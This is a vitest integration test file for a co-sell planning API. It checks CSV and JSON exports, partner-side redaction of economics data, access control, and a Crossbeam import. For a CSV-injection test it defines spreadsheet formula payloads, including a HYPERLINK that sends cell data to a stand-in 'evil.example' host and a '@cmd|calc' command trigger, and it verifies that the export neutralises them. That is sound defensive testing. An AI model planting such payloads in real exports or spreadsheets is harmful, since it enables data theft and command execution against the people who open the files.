import { type Plan, type PlanContent, PORTFOLIO_CSV_HEADER } from '@cosell/shared';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, type TestApi } from '../support/api-host';
import {
  callAs,
  PARTNER_A_USER,
  STRANGER,
  startEntraTestApi,
  startTestTenant,
  type TenantUser,
  type TestTenant,
  twoPartnerDemoPlan,
  type UserRequest,
  VENDOR_USER,
} from '../support/test-tenant';

/*
 * Exports over real HTTP with Entra tokens (issue 10): the portfolio CSV (every page of the caller's list,
 * parsed back with csv-parse, formula-like cells neutralised) and the plan JSON, each redacted for the
 * caller's side — partner A (Contoso) never gets partner B's (A. Datum) economics. Also: a partner cannot
 * create a plan from a Crossbeam import. The tokens and the two-partner demo plan are those of
 * test/support/test-tenant.ts, as in access-api.test.ts.
 */

const PLAN_ID = 'plan-northwind';
const FORMULA_PLAN_ID = 'plan-formulas';
/** Plans beyond one page of the list (100), so the export must read every page. */
const EXTRA_PLANS = 101;

const B_SECRETS = [
  'Resale through A. Datum marketplace listing',
  'Joint logistics webinar',
  '"percent":18',
  '"amount":15000',
];
const B_GAP = 'economics with A. Datum Cloud Services not agreed yet';
const A_TERMS = 'Contoso delivers and bills the rollout services';

let tenant: TestTenant;
let api: TestApi;

const as = (...request: UserRequest) => callAs(api, tenant, ...request);

const twoPartnerPlan = (): PlanContent => twoPartnerDemoPlan();

/** Text a spreadsheet would run as a formula, in the title, an account and a partner name. */
const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

function formulaPlan(): PlanContent {
  const p = twoPartnerPlan();
  p.title = FORMULA_TITLE;
  const account = p.accounts[0];
  if (account) account.name = '+SUM(1,2)';
  const contoso = p.partners.find((x) => x.id === 'p-contoso');
  if (contoso) contoso.name = '@cmd|calc';
  return p;
}

/** The first bytes of a response as sent (fetch's text() drops a byte-order mark). */
async function firstBytes(user: TenantUser, pathname: string): Promise<number[]> {
  const response = await fetch(`${api.url}${pathname}`, {
    headers: { authorization: `Bearer ${await tenant.tokenFor(user)}` },
  });
  return [...new Uint8Array(await response.arrayBuffer()).subarray(0, 3)];
}

function csvRows(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

beforeAll(async () => {
  tenant = await startTestTenant();
  api = await startEntraTestApi(tenant);
  const created = await as(VENDOR_USER, 'POST', '/api/plans', { json: { ...twoPartnerPlan(), id: PLAN_ID } });
  expect(created.status).toBe(201);
  const formulas = await as(VENDOR_USER, 'POST', '/api/plans', {
    json: { ...formulaPlan(), id: FORMULA_PLAN_ID },
  });
  expect(formulas.status).toBe(201);
  // More plans than one page of the list; Maya (vendor) is named on them, partner A is not.
  const vendorOnly = twoPartnerPlan();
  vendorOnly.people = vendorOnly.people.filter((p) => p.side !== 'partner' || p.partnerId !== 'p-contoso');
  const contosoGone = vendorOnly.people.map((p) => p.id);
  vendorOnly.milestones = vendorOnly.milestones.filter((m) => contosoGone.includes(m.ownerId));
  vendorOnly.actions = vendorOnly.actions.filter((a) => contosoGone.includes(a.ownerId));
  vendorOnly.escalation.partnerChains = vendorOnly.escalation.partnerChains.map((c) => ({
    ...c,
    chain: c.chain.filter((id) => contosoGone.includes(id)),
  }));
  if (vendorOnly.cadence) {
    vendorOnly.cadence.attendeeIds = vendorOnly.cadence.attendeeIds.filter((id) => contosoGone.includes(id));
  }
  for (let start = 0; start < EXTRA_PLANS; start += 20) {
    await Promise.all(
      Array.from({ length: Math.min(20, EXTRA_PLANS - start) }, async (_, k) => {
        const i = start + k;
        const made = await as(VENDOR_USER, 'POST', '/api/plans', {
          json: { ...vendorOnly, id: `bulk-${i}`, title: `Bulk plan ${String(i).padStart(3, '0')}` },
        });
        expect(made.status, made.text).toBe(201);
      }),
    );
  }
}, 120_000);

afterAll(async () => {
  await api?.close();
  await tenant?.close();
});

describe('GET /api/plans/export.csv', () => {
  it('is every plan the vendor sees, across pages, as RFC 4180 CSV a parser reads back', async () => {
    const response = await as(VENDOR_USER, 'GET', '/api/plans/export.csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="co-sell-plans-2026-11-27.csv"',
    );
    expect(await firstBytes(VENDOR_USER, '/api/plans/export.csv')).toEqual([0xef, 0xbb, 0xbf]);
    const rows = csvRows(response.text);
    expect(rows[0]).toEqual([...PORTFOLIO_CSV_HEADER]);
    const titles = rows.slice(1).map((r) => r[0]);
    expect(titles).toHaveLength(EXTRA_PLANS + 2);
    expect(titles).toContain('Northwind Logistics — supply-chain analytics rollout');
    expect(titles).toContain('Bulk plan 100');
    const northwind = rows.find((r) => r[0] === 'Northwind Logistics — supply-chain analytics rollout');
    const gaps = northwind?.[PORTFOLIO_CSV_HEADER.indexOf('Gaps')] ?? '';
    expect(gaps).toContain(B_GAP);
  });

  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const rows = csvRows((await as(VENDOR_USER, 'GET', '/api/plans/export.csv')).text);
    const formula = rows.find((r) => r[0]?.includes('HYPERLINK'));
    expect(formula?.[0]).toBe(`'${FORMULA_TITLE}`);
    expect(formula?.[PORTFOLIO_CSV_HEADER.indexOf('Accounts')]).toMatch(/^'\+SUM\(1,2\)/);
    expect(formula?.[PORTFOLIO_CSV_HEADER.indexOf('Partners')]).toMatch(/^'@cmd\|calc/);
    // No cell of the whole export starts with a formula trigger.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('gives partner A only its plans, without partner B’s economics gap', async () => {
    const response = await as(PARTNER_A_USER, 'GET', '/api/plans/export.csv?bom=false');
    expect(response.status).toBe(200);
    expect(await firstBytes(PARTNER_A_USER, '/api/plans/export.csv?bom=false')).toEqual([
      ...Buffer.from('Tit'),
    ]);
    const rows = csvRows(response.text);
    expect(
      rows
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual([`'${FORMULA_TITLE}`, 'Northwind Logistics — supply-chain analytics rollout'].sort());
    expect(response.text).not.toContain(B_GAP);
    expect(response.text).not.toContain('A. Datum Cloud Services not agreed');
  });

  it('gives someone on no plan the header row only', async () => {
    const rows = csvRows((await as(STRANGER, 'GET', '/api/plans/export.csv')).text);
    expect(rows).toEqual([[...PORTFOLIO_CSV_HEADER]]);
  });

  it('narrows by status and refuses an unknown parameter (400 naming it)', async () => {
    const won = csvRows((await as(VENDOR_USER, 'GET', '/api/plans/export.csv?status=won')).text);
    expect(won).toHaveLength(1);
    const bad = await as(VENDOR_USER, 'GET', '/api/plans/export.csv?statuz=won');
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('statuz');
    const badStatus = await as(VENDOR_USER, 'GET', '/api/plans/export.csv?status=finished');
    expect(badStatus.status).toBe(400);
  });

  it('needs a sign-in', async () => {
    const response = await call(api.url, 'GET', '/api/plans/export.csv');
    expect(response.status).toBe(401);
  });
});

describe('GET /api/plans/{id}/export.json', () => {
  it('is the whole plan for the vendor, both partners’ economics included, as an attachment', async () => {
    const response = await as(VENDOR_USER, 'GET', `/api/plans/${PLAN_ID}/export.json`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="co-sell-plan-northwind-logistics-supply-chain-analytics-rollout-plan-northwind.json"',
    );
    const plan = response.body as Plan;
    expect(plan.id).toBe(PLAN_ID);
    expect(plan.economics.map((e) => e.partnerId).sort()).toEqual(['p-adatum', 'p-contoso']);
    expect(response.text).toContain(B_SECRETS[0]);
  });

  it('holds none of partner B’s economics for partner A, and A’s own', async () => {
    const response = await as(PARTNER_A_USER, 'GET', `/api/plans/${PLAN_ID}/export.json`);
    expect(response.status).toBe(200);
    expect(response.text).toContain(A_TERMS);
    for (const secret of B_SECRETS) expect(response.text).not.toContain(secret);
    expect((response.body as Plan).economics.map((e) => e.partnerId)).toEqual(['p-contoso']);
  });

  it('is 404 for someone not on the plan, and for no such plan', async () => {
    const stranger = await as(STRANGER, 'GET', `/api/plans/${PLAN_ID}/export.json`);
    expect(stranger.status).toBe(404);
    expect(stranger.text).not.toContain('Northwind');
    expect((await as(VENDOR_USER, 'GET', '/api/plans/nope/export.json')).status).toBe(404);
  });

  it('names the file in plain ASCII whatever the title holds', async () => {
    const response = await as(VENDOR_USER, 'GET', `/api/plans/${FORMULA_PLAN_ID}/export.json`);
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="co-sell-plan-hyperlink-https-evil-example-a1-click-plan-formulas.json"',
    );
  });
});

describe('Crossbeam import with Entra callers', () => {
  const exportCsv =
    'Record,Website,Account Owner Name,Account Owner Email\r\nTailspin,tailspin.example,Maya Okafor,maya.okafor@vendor.example\r\n';

  it('a partner may preview but not create a plan (403); the vendor creates it', async () => {
    const preview = await as(PARTNER_A_USER, 'POST', '/api/imports/crossbeam/preview', {
      headers: { 'content-type': 'text/csv' },
    });
    // `as` sends JSON bodies only: send the CSV with the same token by hand.
    expect(preview.status).toBe(422);
    const raw = await call(api.url, 'POST', '/api/imports/crossbeam/preview', {
      raw: exportCsv,
      headers: {
        'content-type': 'text/csv',
        authorization: `Bearer ${await tenant.tokenFor(PARTNER_A_USER)}`,
      },
    });
    expect(raw.status).toBe(200);
    const accounts = (raw.body as { accounts: unknown[] }).accounts;
    const body = { partnerName: 'Contoso Consulting', accounts };
    const refused = await as(PARTNER_A_USER, 'POST', '/api/imports/crossbeam/plans', { json: body });
    expect(refused.status).toBe(403);
    const made = await as(VENDOR_USER, 'POST', '/api/imports/crossbeam/plans', { json: body });
    expect(made.status).toBe(201);
    // Maya is named (from the export), so she reads it; the stranger does not.
    const id = (made.body as { plan: Plan }).plan.id;
    expect((await as(VENDOR_USER, 'GET', `/api/plans/${id}/export.json`)).status).toBe(200);
    expect((await as(STRANGER, 'GET', `/api/plans/${id}/export.json`)).status).toBe(404);
  });
});
